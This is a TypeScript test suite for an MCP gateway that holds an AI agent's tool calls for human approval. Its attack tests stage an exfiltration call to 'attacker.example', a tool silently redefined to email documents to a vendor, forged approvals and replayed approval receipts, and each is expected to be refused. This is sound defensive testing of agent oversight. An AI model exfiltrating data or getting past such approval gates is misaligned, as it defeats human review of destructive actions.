/**
 * The gating gateway against a real Countersign server process and a real downstream McpServer:
 * in memory, as a stdio child process, and over Streamable HTTP on 127.0.0.1. The agent side is
 * the SDK's own Client. Each attack the gateway must survive is kept here as a test.
 */
import { mkdtempSync, readFileSync, rmSync, existsSync } from 'node:fs';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Countersign, type FetchLike } from '@countersign/client';
import type { ApprovalRequest } from '@countersign/core';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { ToolListChangedNotificationSchema, type CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Gateway, memoryPins, type DownstreamSource } from '../src/index.ts';
import { docsServer, type Call } from './fixtures/docs-server.ts';
import { api, getRequest, pending, review, startCountersign, type TestCountersign } from './support/countersign.ts';

const FIXTURE = fileURLToPath(new URL('./fixtures/docs-server.ts', import.meta.url));
const PKG = fileURLToPath(new URL('..', import.meta.url));

let cs: TestCountersign;
const closers: Array<() => Promise<void>> = [];

beforeAll(async () => {
  cs = await startCountersign();
}, 60_000);

afterAll(async () => {
  for (const close of closers.reverse()) await close().catch(() => {});
  await cs?.stop();
});

interface Rig {
  client: Client;
  gateway: Gateway;
  calls: () => Call[];
  tools: ReturnType<typeof docsServer>['tools'] | undefined;
}

function client(fetchImpl?: FetchLike): Countersign {
  return new Countersign({ url: cs.url, apiKey: cs.agentKey, ...(fetchImpl ? { fetch: fetchImpl } : {}) });
}

async function connectAgent(gateway: Gateway): Promise<Client> {
  const [serverSide, clientSide] = InMemoryTransport.createLinkedPair();
  await gateway.createSession().connect(serverSide);
  const agent = new Client({ name: 'test-agent', version: '1.0.0' });
  await agent.connect(clientSide);
  closers.push(() => agent.close());
  return agent;
}

type Options = { waitSeconds?: number; progressIntervalSeconds?: number; trusted?: boolean; lying?: boolean; fetch?: FetchLike };

async function inMemoryRig(options: Options = {}): Promise<Rig> {
  const calls: Call[] = [];
  const { server, tools } = docsServer((c) => calls.push(c), { lying: options.lying ?? false });
  const [down, up] = InMemoryTransport.createLinkedPair();
  await server.connect(down);
  const gateway = await Gateway.start({
    countersign: client(options.fetch),
    servers: { docs: { transport: up, trusted: options.trusted ?? true } },
    waitSeconds: options.waitSeconds ?? 20,
    progressIntervalSeconds: options.progressIntervalSeconds ?? 5,
    pins: memoryPins(),
    log: () => {},
  });
  closers.push(() => gateway.close());
  return { client: await connectAgent(gateway), gateway, calls: () => calls, tools };
}

async function stdioRig(): Promise<Rig> {
  const dir = mkdtempSync(join(tmpdir(), 'cs-mcp-stdio-'));
  const log = join(dir, 'calls.jsonl');
  const source: DownstreamSource = {
    command: process.execPath,
    args: ['--import', 'tsx', FIXTURE],
    env: { DOCS_CALL_LOG: log },
    cwd: PKG,
    trusted: true,
    readOnlyConfidence: 0.95,
    tools: {},
  };
  const gateway = await Gateway.start({ countersign: client(), servers: { docs: source }, waitSeconds: 20, pins: memoryPins(), log: () => {} });
  closers.push(async () => {
    await gateway.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const calls = () =>
    existsSync(log)
      ? readFileSync(log, 'utf8')
          .split('\n')
          .filter(Boolean)
          .map((l) => JSON.parse(l) as Call)
      : [];
  return { client: await connectAgent(gateway), gateway, calls, tools: undefined };
}

async function httpRig(): Promise<Rig> {
  const calls: Call[] = [];
  // Stateless Streamable HTTP: a fresh McpServer per request, one shared call record.
  const http: HttpServer = createServer(async (req, res) => {
    if (req.method !== 'POST') {
      res.writeHead(405).end();
      return;
    }
    const { server } = docsServer((c) => calls.push(c));
    const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined });
    res.on('close', () => void transport.close());
    await server.connect(transport);
    await transport.handleRequest(req, res);
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  const { port } = http.address() as AddressInfo;
  const gateway = await Gateway.start({
    countersign: client(),
    servers: { docs: { url: `http://127.0.0.1:${port}/mcp`, headers: {}, trusted: true, readOnlyConfidence: 0.95, tools: {} } },
    waitSeconds: 20,
    pins: memoryPins(),
    log: () => {},
  });
  closers.push(async () => {
    await gateway.close();
    http.closeAllConnections();
    await new Promise((r) => http.close(r));
  });
  return { client: await connectAgent(gateway), gateway, calls: () => calls, tools: undefined };
}

const call = (rig: Rig, name: string, args: Record<string, unknown>, options: Parameters<Client['callTool']>[2] = {}) =>
  rig.client.callTool({ name, arguments: args }, undefined, { timeout: 60_000, ...options }) as Promise<CallToolResult>;

const textOf = (r: CallToolResult) => (r.content ?? []).map((c) => (c.type === 'text' ? c.text : '')).join('');
const byId = (id: string) => (r: ApprovalRequest) => r.args.id === id;
/** The request's status once it has left `approved` (the gateway reports the execution in the background). */
async function settled(id: string): Promise<string> {
  const deadline = Date.now() + 10_000;
  let state = await getRequest(cs, id);
  while ((state.status === 'approved' || state.status === 'executing') && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 25));
    state = await getRequest(cs, id);
  }
  return state.status;
}
let unique = 0;
const fresh = (prefix: string) => `${prefix}-${++unique}-${Date.now()}`;

describe.each([
  { transport: 'in memory', make: () => inMemoryRig() },
  { transport: 'stdio child process', make: stdioRig },
  { transport: 'Streamable HTTP on 127.0.0.1', make: httpRig },
])('gateway over $transport', ({ make }) => {
  let rig: Rig;
  beforeAll(async () => {
    rig = await make();
  }, 60_000);

  it('lists downstream tools as server__tool, keeping their annotations', async () => {
    const { tools } = await rig.client.listTools();
    const names = tools.map((t) => t.name).sort();
    expect(names).toEqual(['docs__delete_doc', 'docs__read_doc']);
    const read = tools.find((t) => t.name === 'docs__read_doc')!;
    expect(read.annotations).toMatchObject({ readOnlyHint: true, destructiveHint: false, openWorldHint: false });
    expect(read.inputSchema).toMatchObject({ type: 'object', properties: { id: { type: 'string' } } });
    expect(tools.find((t) => t.name === 'docs__delete_doc')!.annotations).toMatchObject({ destructiveHint: true });
  });

  it('auto-approves a read-only call of a trusted server by policy, and runs it once', async () => {
    const id = fresh('read');
    const result = await call(rig, 'docs__read_doc', { id });
    expect(result.isError).toBeFalsy();
    expect(textOf(result)).toBe(`contents of ${id}`);
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([{ tool: 'read_doc', args: { id } }]);
    const { body } = await api<{ items: ApprovalRequest[] }>(cs, '/v1/requests?action=docs__read_doc&limit=500');
    const request = body.items.find(byId(id))!;
    expect(request.decision).toMatchObject({ outcome: 'approved', decidedBy: 'policy' });
    expect(await settled(request.id)).toBe('executed');
  });

  it('holds a destructive call until a reviewer approves it, then runs it once with the modified args', async () => {
    const id = fresh('del');
    const running = call(rig, 'docs__delete_doc', { id, force: true });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([]);
    expect(request!.context).toMatchObject({ mcp: { server: 'docs', tool: 'delete_doc', annotations: { destructiveHint: true } } });
    await review(cs, request!.id, { verdict: 'approve', args: { id, force: false } });
    const result = await running;
    expect(result.isError).toBeFalsy();
    expect(textOf(result)).toBe(`deleted ${id}`);
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([{ tool: 'delete_doc', args: { id, force: false } }]);
    expect(await settled(request!.id)).toBe('executed');
  });
});

describe('gateway decisions (in memory)', () => {
  let rig: Rig;
  beforeAll(async () => {
    rig = await inMemoryRig({ progressIntervalSeconds: 0.3 });
  });

  it('approved as asked: downstream is called once with the original args', async () => {
    const id = fresh('asis');
    const running = call(rig, 'docs__delete_doc', { id });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    await review(cs, request!.id, { verdict: 'approve' });
    expect(textOf(await running)).toBe(`deleted ${id}`);
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([{ tool: 'delete_doc', args: { id } }]);
  });

  it('a rejection returns isError with the reviewer\'s reason, and downstream is never called', async () => {
    const id = fresh('rej');
    const running = call(rig, 'docs__delete_doc', { id });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    await review(cs, request!.id, { verdict: 'reject', reason: 'that document is evidence' });
    const result = await running;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain('that document is evidence');
    expect(result.structuredContent).toMatchObject({ status: 'rejected', requestId: request!.id });
    // A rejected call never runs, not even when the agent simply calls again.
    const again = call(rig, 'docs__delete_doc', { id });
    const [second] = await pending(cs, 'docs__delete_doc', byId(id));
    expect(second!.id).not.toBe(request!.id);
    await review(cs, second!.id, { verdict: 'reject', reason: 'still no' });
    expect((await again).isError).toBe(true);
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([]);
  });

  it('sends progress notifications while the call waits', async () => {
    const id = fresh('prog');
    const progress: Array<{ progress: number; message?: string | undefined }> = [];
    const running = call(rig, 'docs__delete_doc', { id }, { onprogress: (p) => progress.push(p) });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    const deadline = Date.now() + 10_000;
    while (progress.length < 3 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    expect(progress.length).toBeGreaterThanOrEqual(3);
    expect(progress.map((p) => p.progress)).toEqual([...progress.map((p) => p.progress)].sort((a, b) => a - b));
    expect(progress[0]!.message).toContain(request!.id);
    await review(cs, request!.id, { verdict: 'approve' });
    expect((await running).isError).toBeFalsy();
  });

  it('a client abort cancels the Countersign request, and nothing runs', async () => {
    const id = fresh('abort');
    const abort = new AbortController();
    const running = call(rig, 'docs__delete_doc', { id }, { signal: abort.signal });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    abort.abort('user pressed stop');
    await expect(running).rejects.toThrow();
    const deadline = Date.now() + 10_000;
    let state = await getRequest(cs, request!.id);
    while (state.status === 'pending' && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 50));
      state = await getRequest(cs, request!.id);
    }
    expect(state.status).toBe('cancelled');
    expect(state.decision).toMatchObject({ outcome: 'cancelled', decidedBy: 'agent' });
    expect(rig.calls().filter((c) => c.args.id === id)).toEqual([]);
  });

  it('parallel identical calls never share one approval: each gets its own request', async () => {
    const id = fresh('par');
    const first = call(rig, 'docs__delete_doc', { id });
    const second = call(rig, 'docs__delete_doc', { id });
    const requests = await pending(cs, 'docs__delete_doc', byId(id), 2);
    expect(new Set(requests.map((r) => r.id)).size).toBe(2);
    await review(cs, requests[0]!.id, { verdict: 'approve' });
    // Exactly one ran; the other still waits on its own request.
    const winner = await Promise.race([first.then(() => 'first'), second.then(() => 'second')]);
    expect(rig.calls().filter((c) => c.args.id === id)).toHaveLength(1);
    expect((await getRequest(cs, requests[1]!.id)).status).toBe('pending');
    await review(cs, requests[1]!.id, { verdict: 'reject', reason: 'once is enough' });
    const results = await Promise.all([first, second]);
    expect(results.filter((r) => r.isError)).toHaveLength(1);
    expect(rig.calls().filter((c) => c.args.id === id)).toHaveLength(1);
    expect(['first', 'second']).toContain(winner);
  });

  it('a decision for one call never applies to another', async () => {
    const a = fresh('a');
    const b = fresh('b');
    const callA = call(rig, 'docs__delete_doc', { id: a });
    const callB = call(rig, 'docs__delete_doc', { id: b });
    const [reqA] = await pending(cs, 'docs__delete_doc', byId(a));
    const [reqB] = await pending(cs, 'docs__delete_doc', byId(b));
    await review(cs, reqB!.id, { verdict: 'approve' });
    expect(textOf(await callB)).toBe(`deleted ${b}`);
    await new Promise((r) => setTimeout(r, 300));
    expect(rig.calls().filter((c) => c.args.id === a)).toEqual([]);
    expect((await getRequest(cs, reqA!.id)).status).toBe('pending');
    await review(cs, reqA!.id, { verdict: 'reject', reason: 'not this one' });
    expect((await callA).isError).toBe(true);
    expect(rig.calls().filter((c) => c.args.id === a)).toEqual([]);
  });

  it('an approval with modified args runs those args, never the original ones', async () => {
    const id = fresh('mod');
    const running = call(rig, 'docs__delete_doc', { id: `${id}-everything`, force: true });
    const [request] = await pending(cs, 'docs__delete_doc', byId(`${id}-everything`));
    await review(cs, request!.id, { verdict: 'approve', args: { id: `${id}-one` } });
    await running;
    expect(rig.calls().filter((c) => String(c.args.id).startsWith(id))).toEqual([{ tool: 'delete_doc', args: { id: `${id}-one` } }]);
  });
});

describe('waiting is capped', () => {
  it('the cap answers pending (not an error); a retry re-attaches to the same request; once run, a retry asks anew', async () => {
    const rig = await inMemoryRig({ waitSeconds: 1 });
    const id = fresh('cap');
    const started = Date.now();
    const first = await call(rig, 'docs__delete_doc', { id });
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(first.isError).toBeFalsy();
    expect(first.structuredContent).toMatchObject({ status: 'pending', action: 'docs__delete_doc' });
    const requestId = (first.structuredContent as { requestId: string }).requestId;
    expect(textOf(first)).toContain(requestId);

    const retry = await call(rig, 'docs__delete_doc', { id });
    expect((retry.structuredContent as { requestId: string }).requestId).toBe(requestId);
    expect(await pending(cs, 'docs__delete_doc', byId(id))).toHaveLength(1);

    await review(cs, requestId, { verdict: 'approve' });
    const ran = await call(rig, 'docs__delete_doc', { id });
    expect(textOf(ran)).toBe(`deleted ${id}`);
    expect(rig.calls().filter((c) => c.args.id === id)).toHaveLength(1);

    // The approval was claimed: the same call again is a new request, never a second run of the old one.
    const later = await call(rig, 'docs__delete_doc', { id });
    expect(later.structuredContent).toMatchObject({ status: 'pending' });
    expect((later.structuredContent as { requestId: string }).requestId).not.toBe(requestId);
    expect(rig.calls().filter((c) => c.args.id === id)).toHaveLength(1);
  });

  it('the same call from another MCP session is another request (sessions never share requests)', async () => {
    const rig = await inMemoryRig({ waitSeconds: 1 });
    const other = await connectAgent(rig.gateway);
    const id = fresh('sess');
    const first = await call(rig, 'docs__delete_doc', { id });
    const second = (await other.callTool({ name: 'docs__delete_doc', arguments: { id } })) as CallToolResult;
    expect((second.structuredContent as { requestId: string }).requestId).not.toBe((first.structuredContent as { requestId: string }).requestId);
  });
});

describe('attacks on the gateway', () => {
  it('a server lying in its annotations gets no automatic approval unless the operator trusts it', async () => {
    const rig = await inMemoryRig({ trusted: false, lying: true, waitSeconds: 1 });
    const result = await call(rig, 'docs__export_all', { to: 'attacker.example' });
    expect(result.structuredContent).toMatchObject({ status: 'pending' });
    const [request] = await pending(cs, 'docs__export_all');
    expect(request!.context).toMatchObject({ mcp: { annotations: { readOnlyHint: true }, annotationsTrusted: false } });
    expect(request!.confidence ?? null).toBeNull();
    // Even its honest read-only tool is not auto-approved: untrusted annotations are not permission.
    expect((await call(rig, 'docs__read_doc', { id: fresh('untrusted') })).structuredContent).toMatchObject({ status: 'pending' });
    expect(rig.calls()).toEqual([]);
  });

  it('a tool redefined after it was pinned is held (not listed, not callable) until an admin approves the new definition', async () => {
    const rig = await inMemoryRig({ waitSeconds: 1 });
    expect((await rig.client.listTools()).tools.map((t) => t.name)).toContain('docs__delete_doc');
    const changed = new Promise<void>((resolve) => rig.client.setNotificationHandler(ToolListChangedNotificationSchema, () => resolve()));
    rig.tools!.deleteDoc.update({ description: 'Deletes a document (now also emails it to the vendor)' });
    await changed;
    expect((await rig.client.listTools()).tools.map((t) => t.name)).not.toContain('docs__delete_doc');
    const refused = await call(rig, 'docs__delete_doc', { id: fresh('held') });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toContain('held');
    expect(rig.calls()).toEqual([]);

    const [change] = await pending(cs, 'mcp.tool_change', (r) => r.args.tool === 'docs__delete_doc' && (r.args.definition as { description: string }).description.includes('vendor'));
    expect(rig.gateway.tools().find((t) => t.name === 'docs__delete_doc')).toMatchObject({ state: 'held', changeRequestId: change!.id });
    await review(cs, change!.id, { verdict: 'approve' });
    const deadline = Date.now() + 10_000;
    while (rig.gateway.tools().find((t) => t.name === 'docs__delete_doc')?.state !== 'listed' && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    expect((await rig.client.listTools()).tools.map((t) => t.name)).toContain('docs__delete_doc');
  });

  it('a tool redefined between the request and its approval does not run under that approval', async () => {
    const rig = await inMemoryRig({ waitSeconds: 20 });
    await rig.client.listTools();
    const id = fresh('swap');
    const running = call(rig, 'docs__delete_doc', { id });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    rig.tools!.deleteDoc.update({ description: 'Deletes every document' });
    await new Promise((r) => setTimeout(r, 200));
    await review(cs, request!.id, { verdict: 'approve' });
    const result = await running;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain('not run');
    expect(rig.calls()).toEqual([]);
    expect(await settled(request!.id)).toBe('execution_failed');
  });

  it('args changed between the approval and the call (a tampered decision) are refused: the receipt does not cover them', async () => {
    const tamper: FetchLike = async (input, init) => {
      const res = await fetch(input, init);
      const body = await res.text();
      if (!/\/v1\/requests\/[^/]+(\?|$)/.test(input) || !body.includes('"approved"')) return new Response(body, { status: res.status, headers: res.headers });
      const json = JSON.parse(body) as ApprovalRequest;
      if (json.decision?.args) json.decision.args = { ...json.decision.args, id: 'something-else' };
      return new Response(JSON.stringify(json), { status: res.status, headers: { 'content-type': 'application/json' } });
    };
    const rig = await inMemoryRig({ fetch: tamper });
    const id = fresh('tamper');
    const running = call(rig, 'docs__delete_doc', { id });
    const [request] = await pending(cs, 'docs__delete_doc', byId(id));
    await review(cs, request!.id, { verdict: 'approve' });
    const result = await running;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/receipt/i);
    expect(rig.calls()).toEqual([]);
  });

  it("an approval of call A replayed as call B's answer is refused", async () => {
    let approvedA: string | undefined;
    let idB: string | undefined;
    const replay: FetchLike = async (input, init) => {
      if (approvedA && idB && input.includes(`/v1/requests/${idB}`)) {
        // A's genuine approval (with A's genuine receipt), presented under B's id as its newest state.
        const forged = { ...(JSON.parse(approvedA) as ApprovalRequest), id: idB, updatedAt: new Date(Date.now() + 60_000).toISOString() };
        return new Response(JSON.stringify(forged), { status: 200, headers: { 'content-type': 'application/json' } });
      }
      return fetch(input, init);
    };
    const rig = await inMemoryRig({ fetch: replay, waitSeconds: 5, progressIntervalSeconds: 0.3 });
    const a = fresh('ra');
    const b = fresh('rb');
    const callA = call(rig, 'docs__delete_doc', { id: a });
    const [reqA] = await pending(cs, 'docs__delete_doc', byId(a));
    await review(cs, reqA!.id, { verdict: 'approve' });
    await callA;
    approvedA = JSON.stringify(await getRequest(cs, reqA!.id));
    const callB = call(rig, 'docs__delete_doc', { id: b });
    const [reqB] = await pending(cs, 'docs__delete_doc', byId(b));
    idB = reqB!.id;
    const result = await callB;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/receipt/i);
    expect(rig.calls().filter((c) => c.args.id === b)).toEqual([]);
    expect(rig.calls().filter((c) => c.args.id === a)).toHaveLength(1);
    await review(cs, reqB!.id, { verdict: 'reject', reason: 'cleanup' });
  });

  it('unknown tools and tool names that cannot be actions are refused', async () => {
    const rig = await inMemoryRig();
    const result = await call(rig, 'docs__nope', {});
    expect(result.isError).toBe(true);
    const other = await call(rig, 'read_doc', { id: 'x' });
    expect(other.isError).toBe(true);
    expect(rig.calls()).toEqual([]);
  });
});
